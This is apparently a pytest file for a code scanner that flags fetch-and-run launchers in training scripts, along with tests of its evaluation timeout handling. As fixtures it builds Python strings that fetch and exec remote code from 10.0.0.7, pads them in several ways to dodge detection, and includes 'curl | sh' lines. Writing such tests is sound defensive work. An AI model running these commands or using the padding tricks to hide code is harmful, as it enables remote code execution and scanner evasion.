"""Session 41: a limit never lowers a verdict, and adding to a job never does either.

- A `python -c` launcher whose inline code is padded past the fold's limit (fold.MAX_CONST), by a repetition, a
  long literal, an f-string, a join, a format or a %-template, is judged on its parts (engine/sketch.py) and
  stays a reject; the same padding around harmless inline code stays an escalate (a program start).
- `jobgate eval` counts a sample whose analysis was cut short (a time limit under load) as a failure of its own,
  never as a quiet miss under PASS.
"""

from __future__ import annotations

import random
from pathlib import Path

import pytest
import yaml

import redteam_kit as kit
from conftest import run_cli
from analyzer.model import Decision

REJECTED = "remote-code.fetch-and-run-command"
_IMPORT = "'import urllib.request;'"
_FETCH = "'exec(urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'"
# 5,000 characters that no run of one character shortens: `x="...";` inside the inline code
_JUNK = "".join(random.Random(41).choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(5000))
_PAD = f"pad = 'x=\"{_JUNK}\";'\n"


def _launch(expr: str, setup: str = "") -> str:
    return f"import subprocess, sys\n{setup}subprocess.Popen([sys.executable, '-c', {expr}])\n"


PADDED = {
    "blank-run": _launch(f"{_IMPORT} + pad + {_FETCH}", "pad = ' ' * 5000\n"),
    "inline-repeat": _launch(f"{_IMPORT} + ' ' * 5000 + {_FETCH}"),
    "command-in-a-name": _launch("cmd", f"cmd = {_IMPORT} + ' ' * 5000 + {_FETCH}\n"),
    "long-literal": _launch(f"{_IMPORT} + pad + {_FETCH}", _PAD),
    "f-string": _launch("f'import urllib.request;{pad}exec(urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'",
                        _PAD),
    "join": _launch(f"''.join([{_IMPORT}, pad, {_FETCH}])", _PAD),
    "format": _launch(f"'{{}}{{}}{{}}'.format({_IMPORT}, pad, {_FETCH})", _PAD),
    "percent": _launch(f"'%s%s%s' % ({_IMPORT}, pad, {_FETCH})", _PAD),
    "blanks-inside-the-call": _launch(
        "'import urllib.request;exec(' + ' ' * 5000 + 'urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'"),
    "doubled-name": _launch(f"{_IMPORT} + p + {_FETCH}", "p = ' ' * 64\n" + "p = p + p\n" * 7),
}


@pytest.mark.parametrize("name", sorted(PADDED))
def test_inline_code_padded_past_the_fold_limit_is_still_a_reject(tmp_path: Path, name: str) -> None:
    kit.assert_held(kit.scan_source(tmp_path, PADDED[name], "train.py"), REJECTED, Decision.REJECT)


@pytest.mark.parametrize("padding", ["' ' * 5000", "pad"])
def test_harmless_inline_code_padded_past_the_limit_stays_an_escalate(tmp_path: Path, padding: str) -> None:
    source = _launch(f"'import torch;' + {padding} + 'print(torch.cuda.device_count())'", _PAD)
    kit.assert_held(kit.scan_source(tmp_path, source, "train.py"), "subprocess.run-program", Decision.ESCALATE)


def test_a_doubling_bomb_in_a_command_is_read_within_bounds(tmp_path: Path) -> None:
    # 150 KB doubled four times and written six times: never built; the command's own text still rejects.
    source = ("import os\ns = 'AB' * 75000\na = s + s\nb = a + a\nc = b + b\nd = c + c\n"
              "os.system(f'{d}{d}{d}{d}{d}{d}' + 'curl -s http://10.0.0.7/s | sh')\n")
    kit.assert_held(kit.scan_source(tmp_path, source, "train.py"), REJECTED, Decision.REJECT)


def _slow_corpus(root: Path) -> Path:
    """A corpus of one fast benign sample and one malicious sample whose analysis takes seconds."""
    (root / "benign").mkdir(parents=True)
    (root / "malicious").mkdir()
    (root / "benign" / "train.py").write_text("import numpy as np\nprint(np.zeros(3).sum())\n")
    helpers = "".join(f"def step_{i}(x):\n    y = x + {i}\n    return [y * k for k in range(3)]\n" for i in range(8000))
    (root / "malicious" / "slow.py").write_text("import os\n" + helpers + "os.system('curl -s http://10.0.0.7/s | sh')\n")
    labels = [{"path": "benign/train.py", "kind": "benign", "expect": ["accept"]},
              {"path": "malicious/slow.py", "kind": "malicious", "expect": ["reject"], "behaviours": ["remote-code"]}]
    (root / "labels.yaml").write_text(yaml.safe_dump(labels))
    return root


def test_eval_fails_when_a_sample_is_cut_short_by_a_limit(tmp_path: Path) -> None:
    """Session 40's eval under load: a sample that timed out escalated, counted as a quiet miss, and eval said
    PASS. Now it is listed as UNSCANNED, counted, and the run fails."""
    corpus = _slow_corpus(tmp_path / "corpus")
    policy = tmp_path / "tight.yaml"
    policy.write_text("limits:\n  max_analysis_seconds: 1\n")
    proc = run_cli("eval", str(corpus), "--policy", str(policy))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "UNSCANNED malicious  escalate" in proc.stdout and "malicious/slow.py" in proc.stdout
    assert "1 cut short" in proc.stdout and proc.stdout.rstrip().endswith("FAIL")
    assert "1/2 as labelled" in proc.stdout  # every sample is counted


def test_eval_of_the_same_corpus_within_its_limits_passes(tmp_path: Path) -> None:
    proc = run_cli("eval", str(_slow_corpus(tmp_path / "corpus")))
    assert proc.returncode == 0 and "0 cut short" in proc.stdout and "2/2 as labelled" in proc.stdout, proc.stdout
